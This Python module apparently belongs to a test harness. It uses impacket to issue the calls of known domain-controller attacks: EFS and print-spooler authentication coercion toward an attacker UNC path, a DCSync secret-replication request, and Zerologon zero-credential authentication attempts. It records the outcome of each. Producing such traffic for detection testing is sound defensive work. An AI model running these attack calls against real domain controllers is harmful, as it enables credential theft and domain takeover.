# SPDX-License-Identifier: Apache-2.0
"""What attacks on a domain controller call, made with impacket as their tools make it.

Each returns a list of what came of its calls, in turn, in the words of callers.py.
"""
import struct

from impacket.dcerpc.v5 import drsuapi, nrpc, rprn
from impacket.dcerpc.v5.dtypes import NULL
from impacket.uuid import string_to_bin

import callers as c

DRSUAPI = ("e3514235-4b06-11d1-ab04-00c04fc2dcd2", "4.0")
NETLOGON = ("12345678-1234-abcd-ef00-01234567cffb", "1.0")
SPOOLSS = ("12345678-1234-abcd-ef00-0123456789ab", "1.0")
EFS_LSA = ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")
EFS = ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")
BACK = "\\\\127.0.26.66\\share\\file\0"  # where the victim is to come to
NTLM = c.How("ntlm")
SERVER_CHANNEL, FLAGS = 6, 0x212fffff


def outcome(act):
    """What came of a call, the answer's own status included: "answered, 0x35"."""
    try:
        return c.impacket_outcome(lambda: act() and None)
    except c.Failed as why:
        code = getattr(why.__context__, "error_code", None)
        return f"answered, {code:#x}" if code else str(why)


def wide(text):
    """A conformant varying string of NDR."""
    units = text.encode("utf-16-le")
    count = len(units) // 2
    return struct.pack("<III", count, 0, count) + units + bytes(-len(units) % 4)


def coerce_by_file(where, interface, source=None):
    """EfsRpcOpenFileRaw with a path of the attacker's."""
    dce = c.impacket_open(where, interface, c.How("ntlm", source=source))

    def act():
        dce.call(0, wide(BACK) + struct.pack("<i", 0))
        code = struct.unpack("<I", dce.recv()[-4:])[0]
        return f"answered, {code:#x}"
    try:
        return [c.impacket_outcome(act)]
    finally:
        dce.disconnect()


def coerce_by_printer(where, source=None):
    """RpcOpenPrinter, then the notification that makes the spooler call back."""
    dce = c.impacket_open(where, SPOOLSS, c.How("ntlm", source=source))
    handle = rprn.hRpcOpenPrinter(dce, "\\\\victim\0")["pHandle"]
    try:
        return [outcome(lambda: rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, handle, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine="\\\\127.0.26.66\0"))]
    finally:
        dce.disconnect()


def changes_of(handle):
    """The question for one object's secrets."""
    request = drsuapi.DRSGetNCChanges()
    request["hDrs"], request["dwInVersion"], request["pmsgIn"]["tag"] = handle, 8, 8
    v8 = request["pmsgIn"]["V8"]
    v8["uuidDsaObjDest"] = v8["uuidInvocIdSrc"] = drsuapi.NULLGUID
    name = drsuapi.DSNAME()
    name["SidLen"], name["Sid"], name["NameLen"], name["StringName"] = 0, "", 0, "\0"
    name["Guid"] = string_to_bin("11111111-2222-4333-8444-555555555555")
    name["structLen"] = len(name.getData())
    v8["pNC"], v8["pUpToDateVecDest"] = name, NULL
    v8["usnvecFrom"]["usnHighObjUpdate"] = v8["usnvecFrom"]["usnHighPropUpdate"] = 0
    v8["ulFlags"], v8["cMaxObjects"], v8["cMaxBytes"] = 0x30, 1, 0
    v8["ulExtendedOp"] = drsuapi.EXOP_REPL_OBJ
    v8["pPartialAttrSet"] = v8["pPartialAttrSetEx1"] = NULL
    v8["PrefixTableDest"]["pPrefixEntry"] = NULL
    return request


def dcsync(where, source=None):
    """DRSBind, DRSGetNCChanges."""
    dce = c.impacket_open(where, DRSUAPI, c.How("ntlm", source=source))
    request = drsuapi.DRSBind()
    request["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    extensions = drsuapi.DRS_EXTENSIONS_INT()
    extensions["cb"] = len(extensions)
    extensions["dwFlags"] = drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_GETCHGREPLY_V6
    extensions["SiteObjGuid"] = extensions["ConfigObjGUID"] = drsuapi.NULLGUID
    extensions["Pid"] = extensions["dwReplEpoch"] = extensions["dwFlagsExt"] = 0
    extensions["dwExtCaps"] = 0xffffffff
    request["pextClient"]["cb"] = len(extensions)
    request["pextClient"]["rgb"] = list(extensions.getData())
    handle = dce.request(request)["phDrs"]
    try:
        return [outcome(lambda: dce.request(changes_of(handle)))]
    finally:
        dce.disconnect()


def zerologon(where, attempts, source=None):
    """Challenges and credentials of zeros, without authentication, each pair on a connection."""
    outcomes = []
    for _ in range(attempts):
        dce = c.impacket_open(where, NETLOGON, c.How(source=source))
        outcomes.append(outcome(lambda: nrpc.hNetrServerReqChallenge(
            dce, NULL, "VICTIM\0", bytes(8))))
        outcomes.append(outcome(lambda: nrpc.hNetrServerAuthenticate3(
            dce, NULL, "VICTIM$\0", SERVER_CHANNEL, "VICTIM\0", bytes(8), FLAGS)))
        dce.disconnect()
    return outcomes
